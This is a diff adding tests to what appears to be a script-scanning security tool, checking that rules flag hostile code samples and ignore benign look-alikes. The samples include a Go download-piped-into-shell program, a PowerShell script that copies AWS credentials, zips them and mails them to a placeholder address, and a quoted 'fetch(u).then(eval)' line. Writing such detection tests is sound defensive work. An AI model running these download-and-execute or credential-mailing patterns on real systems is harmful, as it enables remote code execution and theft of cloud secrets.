@@ -62,3 +62,22 @@ def test_shapes_quoted_in_comments_are_not_code():
             " * fetch(u).then(eval)\n"
             "const url = 'https://example.com'; // fetch it later\n")
     assert script_rules("scanner.js", text) == set()
+
+
+def test_go_download_fed_to_a_shells_stdin():
+    text = ('package main\nimport ("net/http"; "os/exec")\nfunc main() {\n\tresp, _ := http.Get(u)\n'
+            '\tcmd := exec.Command("sh")\n\tcmd.Stdin = resp.Body\n\tcmd.Run()\n}\n')
+    assert top("main.go", text, "IG701") == Severity.CRITICAL
+    quiet = ('package main\nimport ("net/http"; "os/exec"; "strings")\nfunc main() {\n\tresp, _ := http.Get(u)\n\tdefer resp.Body.Close()\n'
+             '\tcmd := exec.Command("git", "apply")\n\tcmd.Stdin = strings.NewReader(patch)\n\tcmd.Run()\n}\n')
+    assert "IG701" not in script_rules("main.go", quiet)
+
+
+def test_powershell_credential_copied_archived_and_mailed():
+    text = ('$d = Join-Path $env:TEMP "diag"\n$c = Join-Path $env:USERPROFILE ".aws\\credentials"\n'
+            'if (Test-Path $c) { Copy-Item $c $d }\nCompress-Archive -Path "$d\\*" -DestinationPath "$d.zip"\n'
+            'Send-MailMessage -SmtpServer "smtp.example.net" -To "x@example.net" -Attachments "$d.zip"\n')
+    assert top("diag.ps1", text, "IG703") in (Severity.HIGH, Severity.CRITICAL)
+    quiet = ('$d = Join-Path $env:TEMP "diag"\nCopy-Item build.log $d\nCompress-Archive -Path "$d\\*" -DestinationPath "$d.zip"\n'
+             'Send-MailMessage -SmtpServer "smtp.example.net" -To "x@example.net" -Attachments "$d.zip"\n')
+    assert "IG703" not in script_rules("diag.ps1", quiet)
